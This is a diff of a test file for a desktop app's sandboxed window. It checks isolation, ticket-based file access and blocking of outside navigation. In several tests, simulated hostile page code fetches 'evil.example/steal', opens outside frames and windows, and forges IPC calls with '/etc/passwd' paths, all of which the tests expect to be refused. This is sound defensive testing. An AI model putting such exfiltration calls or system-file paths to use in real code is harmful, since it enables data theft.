@@ -1,10 +1,12 @@
-import { mkdtempSync, rmSync } from 'node:fs';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, expect, test } from 'vitest';
-import { openWindowDoor, type WindowDoor } from './windowDoor.ts';
+import type { Item } from './electronStandIn/menu.ts';
+import { openWindowDoor, startWindowProcess, type WindowDoor } from './windowDoor.ts';
 
 const home = mkdtempSync(join(tmpdir(), 'holdfast-window-'));
+const inHome = (name: string) => join(home, name);
 let door: WindowDoor;
 
 beforeAll(async () => {
@@ -15,9 +17,216 @@ afterAll(async () => {
   rmSync(home, { recursive: true, force: true });
 });
 
-test('answers calls through page, preload, main and engine', async () => {
-  const project = await door.ticket(join(home, 'shop.holdfast'), 'save');
+const inPage = (expression: string) => door.page.evaluate(expression);
+const refused = (code: string) => expect.objectContaining({ code });
+
+test('calls go through page, preload, main and engine, errors included', async () => {
+  const project = await door.ticket(inHome('shop.holdfast'), 'save');
   const made = await door.call('project.create', { project, name: '茶 Tea', currency: 'CNY', locale: 'zh-CN' });
   expect(made).toMatchObject({ name: '茶 Tea', fileName: 'shop.holdfast', orders: 0 });
-  await expect(door.call('project.open', { file: 'open-nothing' })).rejects.toMatchObject({ code: 'ticket.unknown' });
+  await expect(door.call('project.open', { file: 'open-nothing' })).rejects.toEqual(refused('ticket.unknown'));
+  await expect(door.call('project.info', { project: 7 })).rejects.toEqual(refused('call.badArguments'));
+});
+
+test('the page is sandboxed, isolated and without Node', async () => {
+  const [main] = await door.wish<{ options: { webPreferences: object } }[]>({ do: 'windows' });
+  expect(main?.options.webPreferences).toMatchObject({
+    sandbox: true,
+    contextIsolation: true,
+    nodeIntegration: false,
+    webviewTag: false,
+  });
+  expect(await door.log('sandbox')).toEqual([true]);
+  expect(await inPage('[typeof require, typeof process, typeof module].join()')).toBe('undefined,undefined,undefined');
+  expect(await inPage('Object.keys(window.holdfast).sort().join()')).toBe(
+    'acceptDropped,onMenu,openReport,pickFile,pickNewProject,printPdf,saveResult,setLook',
+  );
+});
+
+test('a file crosses as a ticket and a bare name, never as a path', async () => {
+  writeFileSync(inHome('orders.csv'), 'date,customer,amount\n');
+  await door.wish({ do: 'answer', dialog: 'open', value: inHome('orders.csv') });
+  const picked = await door.host('pickFile', 'import');
+  expect(picked).toEqual({ ticket: expect.stringMatching(/^open-/), name: 'orders.csv' });
+  await door.wish({ do: 'answer', dialog: 'open', value: null });
+  expect(await door.host('pickFile', 'import')).toBeNull();
+});
+
+test('a dropped file crosses by its real path, and only kinds that Holdfast reads', async () => {
+  await inPage(`{
+    window.ondragover = (event) => event.preventDefault();
+    window.ondrop = (event) => {
+      event.preventDefault();
+      window.dropped = testPage.host('acceptDropped', event.dataTransfer.files[0]);
+    };
+  }`);
+  const drop = async (path: string) => {
+    await door.wish({ do: 'drop', files: [path], x: 50, y: 50 });
+    return inPage('window.dropped');
+  };
+  writeFileSync(inHome('客户.xlsx'), 'x');
+  writeFileSync(inHome('key.pem'), 'x');
+  expect(await drop(inHome('客户.xlsx'))).toEqual({ value: { ticket: expect.any(String), name: '客户.xlsx' } });
+  expect(await drop(inHome('key.pem'))).toMatchObject({ code: 'window.unknownFile' });
+  await expect(door.host('acceptDropped', {})).rejects.toEqual(refused('window.refused'));
+});
+
+test('a result is saved where the user wants it, but never over a project', async () => {
+  writeFileSync(inHome('result.csv'), '\ufeffa,b\n');
+  const ticket = await door.ticket(inHome('result.csv'), 'open');
+  const save = (target: string | null) =>
+    door.wish({ do: 'answer', dialog: 'save', value: target }).then(() => door.host('saveResult', ticket, 'a/b:c.csv'));
+  expect(await save(inHome('copy.csv'))).toBe(true);
+  expect(readFileSync(inHome('copy.csv'), 'utf8')).toBe('\ufeffa,b\n');
+  expect(await save(null)).toBe(false);
+  await expect(save(inHome('shop.holdfast'))).rejects.toEqual(refused('window.notOverProject'));
+  await expect(save(inHome('missing/copy.csv'))).rejects.toEqual(refused('window.cannotSave'));
+  expect(await door.log('save dialog')).toContainEqual(
+    expect.objectContaining({ defaultPath: expect.stringMatching(/abc\.csv$/) }),
+  );
+});
+
+test('a report is shown without scripts and printed to PDF', async () => {
+  writeFileSync(
+    inHome('report.html'),
+    '<!doctype html><title>报告</title><style>@page{size:A4}</style><h1>流失报告</h1><script>document.title="ran"</script>' +
+      '<img src="https://tracker.example/x.png">',
+  );
+  const ticket = await door.ticket(inHome('report.html'), 'open');
+  await door.host('openReport', ticket, '流失报告');
+  const shown = (
+    await door.wish<{ url: string; visible: boolean; options: { title: string; webPreferences: object } }[]>({
+      do: 'windows',
+    })
+  ).at(-1);
+  expect(shown).toMatchObject({ visible: true, options: { title: '流失报告', webPreferences: { javascript: false } } });
+  expect(shown?.url).toMatch(/^app:\/\/report\/[0-9a-f-]{36}$/);
+
+  await door.wish({ do: 'answer', dialog: 'save', value: inHome('report.pdf') });
+  expect(await door.host('printPdf', ticket, '报告.html')).toBe(true);
+  expect(readFileSync(inHome('report.pdf')).subarray(0, 5).toString()).toBe('%PDF-');
+  const csv = await door.ticket(inHome('orders.csv'), 'open');
+  await expect(door.host('openReport', csv, 'x')).rejects.toEqual(refused('window.notAReport'));
+
+  await door.wish({ do: 'choose', id: 'print' });
+  expect(await door.log('print')).toHaveLength(1);
+});
+
+test('nothing leads out of the page', async () => {
+  await inPage('void (window.onclick = () => window.open("https://evil.example/", "_blank"))');
+  await door.page.mouse.click(300, 300);
+  await expect.poll(() => door.log('window.open')).toEqual([{ action: 'deny' }]);
+  await inPage('void (window.onclick = null)');
+  await inPage('void (location.href = "https://evil.example/away")');
+  await inPage('fetch("https://evil.example/steal").catch(() => 0)');
+  await inPage(
+    `void document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/frame' }))`,
+  );
+  await expect.poll(() => door.log('navigation refused')).toContain('https://evil.example/away');
+  expect(await door.log('request to the network')).toEqual([]);
+  expect(await inPage('document.title')).toBe('ready');
+});
+
+test('permissions are denied, but for copying from our own page', async () => {
+  expect(await inPage('navigator.permissions.query({ name: "geolocation" }).then((p) => p.state)')).toBe('denied');
+  const may = (permission: string, origin: string) => door.wish({ do: 'permission', permission, origin });
+  for (const permission of ['geolocation', 'media', 'notifications', 'clipboard-read', 'hid', 'fileSystem'])
+    expect(await may(permission, 'app://holdfast/'), permission).toBe(false);
+  expect(await may('clipboard-sanitized-write', 'app://holdfast/')).toBe(true);
+  expect(await may('clipboard-sanitized-write', 'https://evil.example/')).toBe(false);
+});
+
+test('a frame inside the page is not listened to', async () => {
+  await inPage(`new Promise((done) => {
+    const frame = Object.assign(document.createElement('iframe'), { sandbox: 'allow-scripts', srcdoc: '<p>guest' });
+    frame.addEventListener('load', done);
+    document.body.append(frame);
+  })`);
+  const forge = (how: 'send' | 'invoke', channel: string, args: unknown[]) =>
+    door.wish({ do: 'forge', from: 'child', how, channel, args });
+  const before = await door.wish<{ ports: number }>({
+    do: 'forge',
+    from: 'child',
+    how: 'send',
+    channel: 'none',
+    args: [],
+  });
+  expect(await forge('invoke', 'holdfast:host', ['pickFile', ['import']])).toMatchObject({ code: 'window.refused' });
+  expect(await forge('send', 'holdfast:port', [])).toEqual({ origin: 'null', ports: before.ports });
+  await forge('send', 'holdfast:look', [{ theme: 'dark', locale: 'zh-CN' }]);
+  expect(labels(await door.wish<Item[]>({ do: 'menu' }))).toContain('File');
+});
+
+test('what the page sends is checked', async () => {
+  const forge = (channel: string, args: unknown[]) =>
+    door.wish({ do: 'forge', from: 'main', how: 'invoke', channel, args });
+  for (const args of [
+    ['toString', []],
+    ['pickFile', ['anything']],
+    ['pickFile', []],
+    ['saveResult', [{ path: '/etc/passwd' }, 'x']],
+    ['grant', ['/etc/passwd', 'open']],
+    [null, null],
+  ])
+    expect(await forge('holdfast:host', args), JSON.stringify(args)).toMatchObject({ code: 'window.refused' });
+  for (const path of ['/etc/passwd', home, inHome('nowhere.csv'), 'relative.txt'])
+    expect(await forge('holdfast:host', ['acceptDropped', [path]]), path).toMatchObject({ kind: 'refused' });
+});
+
+const flat = (items: Item[]): Item[] => items.flatMap((item) => [item, ...flat(item.submenu ?? [])]);
+const labels = (items: Item[]) => flat(items).flatMap((item) => item.label ?? []);
+
+test('the menu speaks the language of the page and passes on what is chosen', async () => {
+  const english = await door.wish<Item[]>({ do: 'menu' });
+  await door.host('setLook', { theme: 'dark', locale: 'zh-CN' });
+  await expect.poll(async () => labels(await door.wish<Item[]>({ do: 'menu' }))).toContain('文件');
+  const chinese = await door.wish<Item[]>({ do: 'menu' });
+  expect(labels(chinese)).toHaveLength(labels(english).length);
+  expect(
+    flat(chinese)
+      .filter(({ checked }) => checked)
+      .map(({ id }) => id),
+  ).toEqual(['theme.dark', 'language.zh-CN']);
+  expect(await inPage('matchMedia("(prefers-color-scheme: dark)").matches')).toBe(true);
+
+  await door.wish({ do: 'choose', id: 'openProject' });
+  await door.wish({ do: 'choose', id: 'go.churn' });
+  await expect
+    .poll(() => inPage('testPage.heard'))
+    .toEqual(expect.arrayContaining([{ kind: 'openProject' }, { kind: 'screen', screen: 'churn' }]));
+  await door.host('setLook', { theme: 'system', locale: 'en' });
+});
+
+test('a second start hands its file to the first and leaves', async () => {
+  const second = await startWindowProcess({ home, args: [inHome('shop.holdfast')] });
+  const code = await new Promise((done) => second.on('exit', done));
+  expect(code).toBe(0);
+  await door.wish({ do: 'mailbox' });
+  await expect
+    .poll(() => inPage('testPage.heard'))
+    .toContainEqual({ kind: 'openFile', file: { ticket: expect.any(String), name: 'shop.holdfast' } });
+  expect(await door.log('recent')).toContain(inHome('shop.holdfast'));
+});
+
+test('a file opened from the desktop reaches the page', async () => {
+  await door.wish({ do: 'openFile', path: inHome('orders.csv') });
+  await expect
+    .poll(() => inPage('testPage.heard'))
+    .toContainEqual({ kind: 'openFile', file: { ticket: expect.any(String), name: 'orders.csv' } });
+  await door.wish({ do: 'openFile', path: inHome('gone.holdfast') });
+  await expect.poll(() => door.log('error')).toHaveLength(1);
+});
+
+test('a page that refuses to be left is asked about, and the engine ends with the window', async () => {
+  await inPage('void addEventListener("beforeunload", (event) => event.preventDefault())');
+  await door.page.mouse.click(5, 5);
+  await door.wish({ do: 'answer', dialog: 'message', value: 0 });
+  await door.wish({ do: 'close' });
+  await expect.poll(() => door.log('asked before leaving')).toEqual([{ leaves: false }]);
+  expect(await inPage('document.title')).toBe('ready');
+  await door.wish({ do: 'answer', dialog: 'message', value: 1 });
+  await door.wish({ do: 'close' });
+  expect(await door.ended).toBe(0);
+  expect(existsSync(inHome('shop.holdfast-wal'))).toBe(false);
+  expect(JSON.parse(readFileSync(inHome('data/window.json'), 'utf8'))).toMatchObject({ locale: 'en', theme: 'system' });
 });
